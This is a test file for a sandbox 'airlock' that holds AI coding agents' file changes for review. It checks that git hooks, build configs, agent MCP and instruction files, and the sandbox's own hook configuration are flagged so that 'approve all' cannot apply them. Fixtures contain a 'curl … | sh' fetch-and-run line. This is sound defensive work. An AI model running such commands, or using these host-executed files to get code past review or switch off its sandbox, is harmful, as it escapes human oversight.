// Files that some tool loads and runs on the host by itself are flagged, so "approve all" never
// takes them; ordinary code next to them is not.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { Airlock } from '../../../src/core/airlock';
import { HOST_CODE_PATTERNS } from '../../../src/core/airlock/hostCodeRules';
import { createRiskClassifier, type RiskInput } from '../../../src/core/airlock/risk';
import { DEFAULT_POLICY, DEFAULT_RISKY } from '../../../src/core/policy';
import { hookConfigPath } from '../../../src/core/tools/hookConfig';
import { HOOK_DIALECTS } from '../../../src/core/tools/hooks';
import type { EntryInfo } from '../../../src/core/snapshot/types';
import { makeWorkspace } from './dirSnapshot';

const FILE: EntryInfo = { type: 'file', mode: 0o644, size: 10, mtimeMs: 0 };
const classify = createRiskClassifier(DEFAULT_RISKY);

function added(path: string, head?: string): RiskInput {
  return { path, kind: 'added', sandbox: FILE, ...(head !== undefined ? { sandboxHead: Buffer.from(head) } : {}) };
}

function modified(path: string, head?: string): RiskInput {
  return { path, kind: 'modified', base: FILE, sandbox: FILE, ...(head !== undefined ? { sandboxHead: Buffer.from(head) } : {}) };
}

const HOST_CODE = [
  '.githooks/pre-commit',
  'tools/.git-hooks/pre-push',
  'hooks/pre-commit',
  'lefthook.yml',
  'mise.toml',
  '.mise.toml',
  '.tool-versions',
  '.pnpmfile.cjs',
  '.yarn/plugins/@yarnpkg/plugin-evil.cjs',
  'conftest.py',
  'tests/unit/conftest.py',
  '.nvim.lua',
  '.exrc',
  '.idea/workspace.xml',
  'Directory.Build.props',
  'src/Directory.Build.targets',
  'vite.config.ts',
  'packages/web/jest.config.mjs',
  'webpack.config.prod.js',
  '.eslintrc.js',
  'packages/lib/.mocharc.cjs',
  'src/setupTests.ts',
  'jest.setup.js',
  'node_modules/left-pad/index.js',
  '.venv/bin/activate',
  '.venv/lib/python3.12/site-packages/evil.pth',
  'sitecustomize.py',
  'usercustomize.py',
  '.zlogin',
  'tools/.gdbinit',
  '.env',
  'Dockerfile',
  'docker-compose.yml',
  'BUILD',
];

const ORDINARY = [
  'src/index.ts',
  'src/hooks/useThing.ts',
  'build/main.js',
  'pkg/__init__.py',
  'app/tasks.py',
  'docs/setup.md',
  'src/Source.ts',
  'README.md',
  'src/agents/index.ts',
  'src/claude/client.ts',
  '.github/ISSUE_TEMPLATE/bug.md',
  '.github/CODEOWNERS',
  'docs/hooks.md',
];

/** Groups the built-in table must cover, each with files a tool on the host loads by itself. */
const GROUPS: Record<string, string[]> = {
  'agent hooks, MCP servers and permissions': [
    '.claude/settings.json',
    '.claude/agents/reviewer.md',
    '.mcp.json',
    '.github/hooks/x.json',
    '.codex/config.toml',
    '.cursor/mcp.json',
    '.cursor/hooks.json',
    '.windsurf/workflows/x.md',
    '.roo/mcp.json',
    '.continue/config.yaml',
    '.gemini/settings.json',
    '.amazonq/mcp.json',
    '.aider.conf.yml',
    '.kiro/hooks/x.kiro.hook',
    'opencode.json',
    '.vscode/mcp.json',
    '.vscode/settings.json',
    '.vscode/tasks.json',
  ],
  'agent commands and skills with shell snippets': ['.claude/commands/x.md', '.claude/skills/x/SKILL.md', '.github/agents/x.agent.md'],
  'agent instructions at any depth': [
    'CLAUDE.md',
    'CLAUDE.local.md',
    'AGENTS.md',
    'GEMINI.md',
    'packages/web/CLAUDE.md',
    'src/deep/AGENTS.md',
    'docs/GEMINI.md',
    '.github/copilot-instructions.md',
    '.github/instructions/ts.instructions.md',
    '.github/prompts/x.prompt.md',
    '.github/chatmodes/x.chatmode.md',
    '.cursorrules',
    '.cursor/rules/x.mdc',
    '.windsurfrules',
    '.roomodes',
    '.clinerules',
    '.clinerules/x.md',
    '.clinerules-code',
    '.amazonq/rules/x.md',
  ],
  'git settings and the runtime a folder selects': [
    '.lfsconfig',
    '.gitconfig',
    '.clangd',
    'src/.clangd',
    '.python-version',
    '.nvmrc',
    '.node-version',
    '.ruby-version',
  ],
};

describe('code that runs on the host', () => {
  for (const p of HOST_CODE) {
    it(`flags a change to ${p}`, () => {
      const flags = classify(added(p));
      assert.ok(flags.length > 0, `${p} would be approved by "approve all"`);
    });
  }

  for (const [group, paths] of Object.entries(GROUPS)) {
    it(`flags ${group}, even with an empty risky list`, () => {
      const bare = createRiskClassifier([]);
      const missed = paths.filter((p) => bare(added(p))[0]?.code !== 'runsOnHost' || classify(modified(p)).length === 0);
      assert.deepEqual(missed, [], 'approve all would apply these');
    });
  }

  it('says that an agent configuration runs on the host, in plain words', () => {
    assert.match(classify(added('.mcp.json'))[0]!.reason, /MCP/);
    assert.match(classify(added('AGENTS.md'))[0]!.reason, /instructions/);
    assert.match(classify(added('.github/hooks/x.json'))[0]!.reason, /hooks?/);
  });

  it("flags the sandbox's own hook configuration, for every agent it configures, as a way to switch the sandbox off", () => {
    const root = path.join(os.tmpdir(), 'ws');
    const own = HOOK_DIALECTS.map((d) => path.relative(root, hookConfigPath(root, d)).split(path.sep).join('/'));
    for (const p of [...own, '.claude/settings.json']) {
      for (const input of [added(p), modified(p), { path: p, kind: 'deleted' as const, base: FILE }]) {
        const [flag] = createRiskClassifier([])(input);
        assert.equal(flag?.code, 'runsOnHost', `${p} (${input.kind}) is not flagged`);
        assert.match(flag!.reason, /switch off the sandbox's own hook/, `${p}: ${flag!.reason}`);
      }
    }
    assert.doesNotMatch(classify(added('.github/hooks/other.json'))[0]!.reason, /sandbox's own hook/);
  });

  it('names the reason in plain words, under the code the review shows', () => {
    const [flag] = classify(added('lefthook.yml'));
    assert.deepEqual(flag, { code: 'runsOnHost', reason: 'lefthook configuration: the commands it lists run at every commit' });
    assert.match(classify(added('conftest.py'))[0]!.reason, /pytest loads it/);
  });

  it('flags a new script that starts with #!, executable or not, but not an edit of an old one', () => {
    assert.match(classify(added('scripts/deploy', '#!/bin/sh\ncurl x | sh\n'))[0]?.reason ?? '', /new script/);
    assert.deepEqual(classify(modified('scripts/deploy', '#!/bin/sh\n')), []);
    assert.deepEqual(classify(added('notes.txt', '# heading\n')), []);
  });

  it('leaves ordinary code alone, React hooks and build output included', () => {
    const flagged = ORDINARY.filter((p) => classify(added(p)).length > 0);
    assert.deepEqual(flagged, []);
  });

  it("keeps the built-in rules when the person's risky list is empty", () => {
    const bare = createRiskClassifier([]);
    assert.equal(bare(added('lefthook.yml'))[0]?.code, 'runsOnHost');
    assert.equal(bare(added('.githooks/post-checkout'))[0]?.code, 'runsOnHost');
  });

  it('gives one reason per path: a path the policy already flags gets no second flag', () => {
    assert.deepEqual(
      classify(added('package.json')).map((f) => f.code),
      ['policyPattern'],
    );
  });

  it('keeps each rule in one place: no built-in pattern repeats a policy default, and each has a reason', () => {
    const repeated = HOST_CODE_PATTERNS.filter((r) => DEFAULT_RISKY.includes(r.pattern)).map((r) => r.pattern);
    assert.deepEqual(repeated, []);
    const unique = new Set(HOST_CODE_PATTERNS.map((r) => r.pattern));
    assert.equal(unique.size, HOST_CODE_PATTERNS.length, 'a pattern is listed twice');
    for (const r of HOST_CODE_PATTERNS) assert.ok(r.reason.length > 10, `${r.pattern} needs a reason`);
  });
});

describe('the change set', () => {
  const tmpRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-risk-'));
  after(() => fs.rmSync(tmpRoot, { recursive: true, force: true }));

  it('hands the classifier the first bytes of a new file, so a new script is held back', async () => {
    const ws = makeWorkspace({ 'README.md': '# x\n' }, tmpRoot);
    fs.writeFileSync(path.join(ws.sandbox, 'deploy'), '#!/bin/sh\ncurl https://example.com | sh\n', { mode: 0o644 });
    fs.writeFileSync(path.join(ws.sandbox, 'notes'), 'plain\n', { mode: 0o644 });
    const set = await new Airlock({ view: ws.view, policy: DEFAULT_POLICY, stateDir: ws.state }).changes();
    assert.deepEqual(
      set.get('deploy')?.risks.map((r) => r.code),
      ['runsOnHost'],
    );
    assert.deepEqual(set.get('notes')?.risks, []);
  });
});
